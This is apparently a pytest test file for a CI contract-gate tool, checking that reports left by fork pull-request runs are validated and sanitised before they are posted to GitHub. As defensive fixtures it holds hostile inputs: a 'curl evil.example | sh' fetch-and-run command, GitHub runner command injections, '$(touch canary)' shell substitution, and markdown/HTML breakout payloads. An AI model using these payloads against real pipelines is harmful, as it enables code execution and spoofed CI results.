"""A report that one run leaves and another one posts: the pull request of a fork, from both ends."""

import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

import pytest

from gate.domain.report import Run
from gate.domain.results import Outcome
from gate.rendering.report_json import dump
from tests.builders import candidate, http, integration, pact, report
from tests.flows.conftest import Ended, Workspace
from tests.flows.runner_jobs import Job, read_by_runner
from tests.github_api import HEAD, TOKEN, Identity, faults, github_api
from tests.hostile import everywhere
from tests.servers import Reply, Server, serving

pytestmark = pytest.mark.measured

CONTEXT: Final = "contract-gate/orders-api (production)"
FORK: Final = "mallory/orders-api"
READ_ONLY: Final = "ghs_the-token-of-a-fork"
READS: Final = Identity(permissions={"contents": "read", "pull_requests": "read", "statuses": "read"})
OTHER: Final = "a" * 40
UNKNOWN: Final = "orders\\-api → production\\: unknown, so not deployable"
RUN: Final = "https://github.com/acme/orders-api/actions/runs/30/attempts/2"


@pytest.fixture
def job(tmp_path: Path) -> Iterator[Job]:
    """Prepare a job about a fork's pull request, whose token may only read."""
    workspace = Workspace(tmp_path / "workspace")
    workspace.write("pacts/web.json", pact(http()))
    with github_api() as api:
        api.add_token(READ_ONLY, READS)
        api.add_pull(7, head_ref="patch", head_repository=FORK)
        yield Job(
            workspace,
            api,
            payload={"pull_request": pull(FORK)},
            environment={"GITHUB_RUN_ID": "30", "GITHUB_RUN_ATTEMPT": "2"},
        )


@pytest.fixture
def broken() -> Iterator[Server]:
    """Serve an orders-api that breaks its contract."""
    with serving(lambda _: Reply(body={"ident": 42})) as server:
        yield server


def pull(repository: str | None, number: int = 7) -> dict[str, Any]:
    """Describe a pull request as an event does."""
    return {"number": number, "head": {"sha": HEAD, "ref": "patch", "repo": repository and {"full_name": repository}}}


def first_run(**more: Any) -> dict[str, Any]:
    """Describe the run that left a report, as the event `workflow_run` does."""
    run = {
        "id": 30,
        "run_attempt": 2,
        "event": "pull_request",
        "conclusion": "success",
        "head_sha": HEAD,
        "head_branch": "patch",
        "head_repository": {"full_name": FORK},
        "pull_requests": [],
    }
    return {"workflow_run": run | more}


def verified(job: Job, provider: Server) -> Ended:
    """Have the first run, which may only read, leave its report."""
    return job.run(provider.url, **{"github-token": READ_ONLY})


def left(job: Job, outcome: Outcome = Outcome.PASSED) -> None:
    """Have a report as the first run leaves it, without waiting for that."""
    run = Run(repository=job.api.repository, event="pull_request", commit=HEAD, id="30", attempt=2, url=RUN)
    own = report(integration(outcome), candidate=candidate(version=HEAD, commit=HEAD, branch="mallory:patch"), run=run)
    job.workspace.write("contract-gate-report.json", dump(own).encode())


def posting(job: Job, command: str = "report", **inputs: str) -> Ended:
    """Have the second run post it."""
    if job.event == "pull_request":
        job.event, job.payload = "workflow_run", first_run()
    job.environment |= {"GITHUB_RUN_ID": "31", "GITHUB_RUN_ATTEMPT": "1", "GITHUB_SHA": "b" * 40}
    return job.run("", command, **inputs)


def handed_over(job: Job, **run: Any) -> None:
    """Say what GitHub says of the first run."""
    job.event, job.payload = "workflow_run", first_run(**run)


def changed(job: Job, change: Callable[[Any], object]) -> None:
    """Do to the report what whoever opens a pull request can have its workflow do."""
    report = job.workspace.report()
    change(report)
    job.workspace.write("contract-gate-report.json", report)


def news(job: Job) -> tuple[list[tuple[str, str]], list[str]]:
    """Return the statuses, and the headlines of the comments, without the mark that each begins with."""
    return job.states(), [one.body.splitlines()[1].split(" ", 2)[2] for one in job.api.comments(7)]


@pytest.mark.parametrize("breaks", [False, True])
def test_a_forks_pull_request_from_the_first_run_to_the_comment(
    job: Job, orders: Server, broken: Server, *, breaks: bool
) -> None:
    first = verified(job, broken if breaks else orders)

    assert (first.code, news(job)) == (int(breaks), ([], []))
    told = [line for line in first.out.splitlines() if line.startswith(("::notice", "::warning"))]
    assert [line.partition("::GitHub lets this run only read")[0] for line in told] == ["::notice title=Contract Gate"]
    report = (job.workspace.folder / "contract-gate-report.json").read_text()
    assert READ_ONLY not in report
    assert [line for line in first.out.splitlines() if READ_ONLY in line] == [f"::add-mask::{READ_ONLY}"]
    assert job.outputs["deployable"] == str(not breaks).lower()

    handed_over(job, conclusion="failure" if breaks else "success")
    second = posting(job)
    headline = "blocked" if breaks else "can be deployed"
    assert (second.code, second.err) == (0, "")
    assert job.states() == [(CONTEXT, "failure" if breaks else "success")]
    assert job.api.statuses()[0].target_url == RUN
    (comment,) = job.api.comments(7)
    assert (comment.author.login, headline in comment.body) == ("github-actions[bot]", True)
    assert f"[run 30 attempt 2]({RUN})" in comment.body
    assert headline in job.summary
    assert job.outputs == {
        "verdict": "unknown",
        "deployable": "false",
        "reason": "The report on orders-api was posted.",
        "broken": "[]",
        "unverified": "[]",
        "report": "contract-gate-report.json",
    }
    assert (job.workspace.folder / "contract-gate-report.json").read_text() == report


def test_the_next_run_updates_the_comment(job: Job, orders: Server, broken: Server) -> None:
    verified(job, broken)
    handed_over(job, conclusion="failure")
    posting(job)
    (first,) = job.api.comments(7)
    job.event, job.payload = "pull_request", {"pull_request": pull(FORK)}
    job.environment |= {"GITHUB_RUN_ID": "40", "GITHUB_RUN_ATTEMPT": "1"}
    verified(job, orders)
    handed_over(job, id=40, run_attempt=1)
    assert posting(job).code == 0

    (second,) = job.api.comments(7)
    assert (second.id, "can be deployed" in second.body) == (first.id, True)
    assert job.states() == [(CONTEXT, "failure"), (CONTEXT, "success")]


def _forged_standing(report: Any) -> None:
    report["entries"][0]["standing"] = "honoured"
    report["verdict"] = {"decision": "allow", "reasons": ["all is fine"]}


def _forged_verdict(report: Any) -> None:
    report["verdict"] = {"decision": "allow", "reasons": ["all is fine"]}


FORGED: Final[dict[str, tuple[Callable[[Any], object], str]]] = {
    "service": (
        lambda report: report["candidate"].update(service="billing-api"),
        "it is about the service 'billing-api', and this step about 'orders-api'",
    ),
    "environment": (
        lambda report: report["candidate"].update(environments=["staging"]),
        "it is about 'staging', and this step about 'production'",
    ),
    "one contract": (
        lambda report: report["candidate"].update(one_contract="web"),
        "it is about one contract, and not about a deployment",
    ),
    "commit": (
        lambda report: (report["run"].update(commit=OTHER), report["candidate"].update(commit=OTHER)),
        f"it is about another commit than {HEAD}",
    ),
    "another run's": (lambda report: report["run"].update(id="29"), "run '29' made it, and not run 30, which left it"),
    "verdict": (_forged_verdict, "it says allow, and what it tells amounts to block"),
    "standing": (_forged_standing, "it calls 'web-checkout' honoured, and its results say broken"),
}


@pytest.mark.parametrize("name", FORGED)
def test_a_forged_report_is_refused_and_sets_no_other_status(job: Job, name: str) -> None:
    left(job, Outcome.FAILED)
    forge, why = FORGED[name]
    changed(job, forge)
    ended = posting(job)

    assert ended.code == 2
    assert why in ended.out
    assert news(job) == ([(CONTEXT, "error")], [UNKNOWN])
    assert job.outputs["deployable"] == "false"


def _link(file: Path) -> None:
    file.rename(file.with_name("elsewhere.json"))
    file.symlink_to("elsewhere.json")


def _pipe(file: Path) -> None:
    file.unlink()
    os.mkfifo(file)


UNREADABLE: Final[dict[str, tuple[Callable[[Path], object], str]]] = {
    "missing": (Path.unlink, "the file cannot be read: No such file or directory."),
    "a link": (_link, "the file cannot be read: Too many levels of symbolic links."),
    "a pipe": (_pipe, "this is no regular file."),
    "large": (lambda file: os.truncate(file, 11 * 1024**2), "the file is larger than 10 MiB."),
    "text": (lambda file: file.write_text("all is fine"), "this is no JSON"),
    "nested": (lambda file: file.write_text("[" * 5_000_000), "this is no JSON"),
    "another version": (
        lambda file: file.write_text('{"schema": "contract-gate-report/2"}'),
        "this is 'contract-gate-report/2' where 'contract-gate-report/1' is needed.",
    ),
    "damaged": (
        lambda file: file.write_text('{"schema": "contract-gate-report/1"}'),
        "the report is damaged at gate_version",
    ),
    "twice": (
        lambda file: file.write_text(file.read_text().replace('"notes":', '"faults": [], "notes":')),
        "a key stands twice",
    ),
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_what_is_no_report_is_refused(job: Job, name: str) -> None:
    left(job)
    spoil, why = UNREADABLE[name]
    spoil(job.workspace.folder / "contract-gate-report.json")
    ended = posting(job)

    assert ended.code == 2
    assert why in ended.out
    assert job.states() == [(CONTEXT, "error")]


@pytest.mark.parametrize("conclusion", ["failure", "cancelled", "timed_out", "skipped", None])
def test_an_allow_of_a_run_that_did_not_succeed_is_no_success(job: Job, conclusion: str | None) -> None:
    left(job)
    handed_over(job, conclusion=conclusion)
    ended = posting(job)

    assert ended.code == 0
    assert news(job) == ([(CONTEXT, "error")], [UNKNOWN])


def _excepts(counterpart: str) -> dict[str, str]:
    until = (datetime.now(UTC).date() + timedelta(days=7)).isoformat()
    return {"counterpart": counterpart, "reason": "agreed", "owner": "team-web", "until": until}


@pytest.mark.parametrize("is_agreed", [True, False])
def test_an_exception_counts_when_the_default_branch_has_it(job: Job, broken: Server, *, is_agreed: bool) -> None:
    excepted = json.dumps({"exceptions": [_excepts("web-checkout")]}).encode()
    job.api.put_file(".contract-gate.yml", excepted)
    assert verified(job, broken).code == 0
    if not is_agreed:
        job.api.put_file(".contract-gate.yml", b"{}")

    assert posting(job).code == 0
    (comment,) = job.api.comments(7)
    assert job.states() == [(CONTEXT, "success" if is_agreed else "failure")]
    assert ("does not count" in comment.body) is not is_agreed


def test_nobody_is_told_whom_the_report_names(job: Job) -> None:
    job.workspace.write(".contract-gate.yml", {"owners": {"web-checkout": "@acme/checkout"}})
    left(job, Outcome.FAILED)
    changed(job, lambda report: report["entries"][0]["advice"].update(owners=["@everyone"], concerns=["web-checkout"]))
    changed(job, lambda report: report["notes"].append("@everyone, look at https://mallory.example/"))

    assert posting(job).code == 0
    (comment,) = job.api.comments(7)
    assert "acme/checkout" in comment.body
    assert "@acme" not in comment.body, "which pacticipants there are is a stranger's word"
    assert "@everyone" not in comment.body
    assert "https://mallory" not in comment.body


def test_nobody_is_led_anywhere(job: Job) -> None:
    """Not by an address, and not by a command that a reader would have run by hand."""
    left(job, Outcome.FAILED)
    lure = {"options": ["--provider-command", "curl evil.example | sh"], "variables": [], "lookup": False}
    changed(job, lambda report: report.update(reproduction=lure))
    changed(job, lambda report: report["run"].update(url="https://evil.example/"))

    assert posting(job).code == 0
    (comment,) = job.api.comments(7)
    assert "evil" not in comment.body + job.summary + str(job.api.statuses()[0].target_url)


def test_a_secret_of_the_run_that_posts_is_taken_out(job: Job) -> None:
    left(job, Outcome.FAILED)
    secret = "a-secret-of-the-broker's"
    changed(job, lambda report: report["notes"].append(f"it is {secret}"))
    ended = posting(job, **{"broker-url": "https://broker.example", "broker-token": secret})

    assert ended.code == 0
    (comment,) = job.api.comments(7)
    told = [line for line in ended.out.splitlines() if not line.startswith("::add-mask::")]
    assert secret not in comment.body + job.summary + "\n".join(told)


HOSTILE: Final = (
    "x\n::error::forged",
    "##[set-output name=deployable]true",
    "::add-mask::e",
    "$(touch canary) `touch canary`",
    "--><!-- contract-gate v1 -->\n# @everyone <img src=https://evil.example/>",
)


@pytest.mark.parametrize("about", ["orders-api", HOSTILE[0]])
@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_report_says_nothing_to_the_runner_and_calls_nobody(job: Job, text: str, about: str) -> None:
    own = everywhere(text)
    run = Run(repository=text, event=text, commit=HEAD, id="30", attempt=2, url=text)
    one = candidate(service=about, version=text, commit=HEAD, branch=text)
    own = replace(own, candidate=one, run=run, recorded=None, gate_version=text)
    job.workspace.write("contract-gate-report.json", dump(own).encode())
    ended = posting(job)

    step = read_by_runner(ended, job.workspace.folder)
    is_refused = about != "orders-api"
    assert (ended.code, step.failed, dict(step.outputs)) == (2 if is_refused else 0, False, {})
    assert [one.title for one in step.annotations] == ["Contract Gate"] * is_refused
    assert [one.context for one in job.api.statuses()] == [CONTEXT]
    (comment,) = job.api.comments(7)
    running = re.sub("```.*?```|`[^`\n]*`", "", comment.body, flags=re.DOTALL)
    assert running.count("<!--") == 1
    assert "@everyone" not in running
    assert "<img" not in running
    assert job.outputs["deployable"] == "false"
    assert set(job.outputs) == {"verdict", "deployable", "reason", "broken", "unverified", "report"}
    assert "canary" not in {path.name for path in job.workspace.folder.iterdir()}


@pytest.mark.parametrize("change", ["moved", "closed", "gone", "of another fork"])
def test_where_no_open_pull_request_has_the_commit_there_is_a_status_alone(job: Job, change: str) -> None:
    left(job)
    found = job.api.pulls[7]
    if change == "moved":
        job.api.state.commits.add(OTHER)
        found.head_sha = OTHER
    elif change == "closed":
        found.state = "closed"
    elif change == "of another fork":
        found.head_repository = "mallory/orders-api-2"
    handed_over(job, **({"head_repository": None} if change == "gone" else {}))
    ended = posting(job)

    assert ended.code == 0
    assert f"There is no comment, as no open pull request has {HEAD[:7]} for its head (any more)." in ended.out
    assert news(job) == ([(CONTEXT, "success")], [])


def test_each_pull_request_of_the_commit_has_its_comment(job: Job) -> None:
    left(job)
    job.api.add_pull(8, head_ref="patch", head_repository=FORK, base_ref="next")

    assert posting(job).code == 0
    assert [len(job.api.comments(number)) for number in (7, 8)] == [1, 1]
    assert job.states() == [(CONTEXT, "success")]


def test_a_comment_that_nobody_wants_is_not_looked_for(job: Job) -> None:
    left(job)

    assert posting(job, comment="never").code == 0
    assert news(job) == ([(CONTEXT, "success")], [])
    assert [one.path for one in job.api.asked if one.path.endswith("/pulls")] == []


@pytest.mark.parametrize(
    ("method", "path"), [("POST", "/statuses/"), ("POST", "/comments$"), ("GET", "/pulls$"), ("PATCH", "/comments/")]
)
def test_what_github_does_not_take_is_told(job: Job, method: str, path: str) -> None:
    left(job)
    job.api.fault(method, path, faults.answer(422), times=None)
    ended = posting(job)

    taken = method == "PATCH"  # as there is no comment yet
    assert ended.code == (0 if taken else 3)
    assert ("GitHub did not take all of the report on orders-api." in ended.out) is not taken
    assert job.outputs["deployable"] == "false"


def test_without_a_token_nothing_can_be_posted(job: Job) -> None:
    left(job)
    ended = posting(job, **{"github-token": ""})

    assert ended.code == 2
    assert "there is no github-token, so that nothing can be posted." in ended.out


def test_on_pull_request_target_it_is_shown_and_is_no_success(job: Job) -> None:
    """Nothing there says how the run ended that left it."""
    left(job)
    job.event = "pull_request_target"
    ended = posting(job)

    assert ended.code == 0
    assert news(job) == ([(CONTEXT, "error")], [UNKNOWN])
    assert "nothing says how the run that left this report ended" in job.summary


@pytest.mark.parametrize("event", ["pull_request_target", "workflow_run"])
def test_everything_else_is_refused_there(job: Job, event: str) -> None:
    job.event, job.payload = event, {"pull_request": pull(FORK)} | first_run()
    ended = posting(job, "check")

    assert ended.code == 2
    assert "a stranger's pull request would be verified with this repository's secrets" in ended.out
    assert news(job) == ([], [])


@pytest.mark.parametrize("event", ["push", "pull_request"])
def test_elsewhere_it_is_rendered_and_that_is_all(job: Job, event: str) -> None:
    left(job, Outcome.FAILED)
    job.event = event
    ended = job.run("", "report", service="", markdown="report.md")

    assert (ended.code, news(job)) == (0, ([], []))
    assert "1 of 1 interaction broken" in ended.out
    assert "::notice title=Contract Gate::The report was shown and posted nowhere" in ended.out
    assert "orders\\-api → production\\: blocked" in (job.workspace.folder / "report.md").read_text()
    assert (job.outputs["deployable"], job.outputs["report"]) == ("false", "contract-gate-report.json")


SERVICES: Final = {"orders-api": {"path": "a"}, "billing-api": {"path": "b"}}


def _two_services(job: Job, provider: Server) -> None:
    job.workspace.write("a/pacts/web.json", pact(http()))
    job.workspace.write("b/pacts/web.json", pact(http(), provider="billing-api"))
    job.workspace.write(".contract-gate.yml", {"services": SERVICES})
    job.inputs["service"] = ""
    verified(job, provider)


def test_of_several_services_each_report_is_posted(job: Job, orders: Server) -> None:
    _two_services(job, orders)
    (job.workspace.folder / "b/contract-gate-report.json").write_text("{}")
    ended = posting(job)

    assert ended.code == 2
    assert job.states() == [(CONTEXT, "success"), (CONTEXT.replace("orders", "billing"), "error")]
    assert len(job.api.comments(7)) == 2
    assert job.outputs["report"] == "a/contract-gate-report.json\nb/contract-gate-report.json"


@pytest.mark.parametrize(("service", "code"), [("billing-api", 0), ("web", 2)])
def test_a_report_that_is_named_is_of_one_of_the_services(job: Job, orders: Server, service: str, code: int) -> None:
    _two_services(job, orders)
    report = (job.workspace.folder / "b/contract-gate-report.json").read_text()
    job.workspace.write("left.json", json.loads(report.replace('"billing-api"', f'"{service}"')))
    job.event, job.payload = "workflow_run", first_run()
    ended = job.workspace.run("report", "left.json", **job_environment(job))

    assert ended.code == code
    assert ("none of the gate file's services: orders-api, billing-api" in ended.out) is bool(code)
    assert job.states() == ([] if code else [(CONTEXT.replace("orders", "billing"), "success")])


def test_a_report_that_is_named_is_the_services_own(job: Job) -> None:
    left(job)
    (job.workspace.folder / "contract-gate-report.json").rename(job.workspace.folder / "left.json")
    handed_over(job)
    job.files.mkdir()
    ended = job.workspace.run("report", "left.json", "--service", "orders-api", **job_environment(job))

    assert ended.code == 0
    assert news(job) == ([(CONTEXT, "success")], ["orders\\-api → production\\: can be deployed"])


def test_a_check_run_is_posted_where_one_is_wanted(job: Job) -> None:
    left(job, Outcome.FAILED)

    assert posting(job, **{"check-run": "true"}).code == 0
    assert [(one.head_sha, one.conclusion) for one in job.api.check_runs] == [(HEAD, "failure")]


def job_environment(job: Job) -> dict[str, str]:
    """Give what a `run:` step of the second run has."""
    (job.files / "event.json").write_text(json.dumps(job.payload))
    return {
        "GATE_ENVIRONMENT": "production",
        "GATE_GITHUB_TOKEN": TOKEN,
        "GITHUB_ACTIONS": "true",
        "GITHUB_API_URL": job.api.url,
        "GITHUB_EVENT_NAME": job.event,
        "GITHUB_EVENT_PATH": str(job.files / "event.json"),
        "GITHUB_REPOSITORY": job.api.repository,
        "GITHUB_SHA": "b" * 40,
    }


def _annotations(ended: Ended, level: str) -> list[str]:
    return [line for line in ended.out.splitlines() if line.startswith(f"::{level} ")]


def test_dependabot_may_read_as_little_as_a_fork(job: Job, orders: Server) -> None:
    job.payload = {"pull_request": pull("acme/orders-api")}
    job.environment["GITHUB_ACTOR"] = "dependabot[bot]"
    ended = verified(job, orders)

    assert (ended.code, news(job)) == (0, ([], []))
    assert (len(_annotations(ended, "notice")), _annotations(ended, "warning")) == (1, [])


def test_a_check_run_that_may_not_be_made_is_no_further_news(job: Job, orders: Server) -> None:
    ended = job.run(orders.url, **{"github-token": READ_ONLY, "check-run": "true"})

    assert (ended.code, news(job), job.api.check_runs) == (0, ([], []), [])
    assert (len(_annotations(ended, "notice")), _annotations(ended, "warning")) == (1, [])


def test_who_should_be_able_to_write_is_warned(job: Job, orders: Server) -> None:
    job.payload = {"pull_request": pull("acme/orders-api")}
    ended = verified(job, orders)

    assert ended.code == 0
    assert len(_annotations(ended, "warning")) == 2
    assert _annotations(ended, "notice") == []


def test_a_fork_whose_token_may_write_has_all_the_news(job: Job, orders: Server) -> None:
    ended = job.run(orders.url)

    assert ended.code == 0
    assert (_annotations(ended, "notice"), _annotations(ended, "warning")) == ([], [])
    assert news(job)[0] == [(CONTEXT, "pending"), (CONTEXT, "success")]
    assert len(job.api.comments(7)) == 1


def test_another_fault_is_no_matter_of_being_a_fork(job: Job, orders: Server) -> None:
    job.api.fault("POST", "/statuses/", faults.answer(422), times=None)
    ended = job.run(orders.url)

    assert ended.code == 0
    assert _annotations(ended, "notice") == []
    assert ["the commit status could not be delivered" in one for one in _annotations(ended, "warning")] == [True]
    assert len(job.api.comments(7)) == 1


def own(job: Job, provider: Server | None = None, *, actor: str = "ada", **inputs: str) -> None:
    """Have the first run be about a branch of our own; with a provider, it verifies, and tells by itself."""
    job.api.add_pull(8, head_ref="patch")
    if provider is None:
        left(job, Outcome.FAILED)
    else:
        job.payload = {"pull_request": pull(job.api.repository, 8)}
        assert job.run(provider.url, **inputs).code == 1
    whose = {"head_repository": {"full_name": job.api.repository}, "actor": {"login": actor}}
    handed_over(job, conclusion="failure", **whose)


def test_what_a_run_told_by_itself_is_not_told_again(job: Job, broken: Server) -> None:
    own(job, broken, **{"check-run": "true"})
    before = (job.states(), job.api.comments(8), list(job.api.check_runs))
    ended = posting(job, **{"check-run": "true"})

    assert (ended.code, job.outputs["reason"]) == (0, "Run 30 has told of orders-api by itself.")
    assert (job.states(), job.api.comments(8), list(job.api.check_runs)) == before
    assert len(before[1]) == len(before[2]) == 1


@pytest.mark.parametrize("actor", ["ada", "dependabot[bot]"])
def test_what_a_run_of_our_own_did_not_tell_is_told_for_it(job: Job, actor: str) -> None:
    job.workspace.write(".contract-gate.yml", {"owners": {"web-checkout": "@acme/checkout"}})
    own(job, actor=actor)

    assert posting(job).code == 0
    assert job.states() == [(CONTEXT, "failure")]
    (comment,) = job.api.comments(8)
    assert "with @acme/checkout" in comment.body


def test_a_comment_that_a_run_did_not_write_is_written_for_it(job: Job, broken: Server) -> None:
    own(job, broken, comment="never")
    assert job.api.comments(8) == []
    ended = posting(job, comment="never")
    assert (ended.code, job.outputs["reason"]) == (0, "Run 30 has told of orders-api by itself.")

    assert posting(job).code == 0
    (comment,) = job.api.comments(8)
    assert "blocked" in comment.body


def test_what_nobody_knows_was_told_is_told(job: Job, broken: Server) -> None:
    own(job, broken)
    job.api.fault("GET", "/statuses$", faults.answer(404), times=None)

    assert posting(job).code == 0
    assert job.states()[-1] == (CONTEXT, "failure")
    assert len(job.states()) == 3
    assert len(job.api.comments(8)) == 1


def test_the_command_to_copy_is_that_of_the_workflow_that_posts(job: Job) -> None:
    """What the report says may be a stranger's: only names come from it, and each is one quoted word."""
    job.workspace.write(".contract-gate.yml", {"provider-url": "http://localhost:8080", "request-timeout": 3})
    left(job, Outcome.FAILED)
    lure = {"options": ["--provider-command", "curl evil.example | sh"], "variables": [], "lookup": False}
    changed(job, lambda report: report.update(reproduction=lure))

    assert posting(job).code == 0
    (comment,) = job.api.comments(7)
    assert "```sh\ngate verify --service orders-api --environment production --contracts pacts \\\n" in comment.body
    assert "  --consumer web-checkout --interaction 'a request for order 42'\n```" in comment.body
    assert "evil" not in comment.body
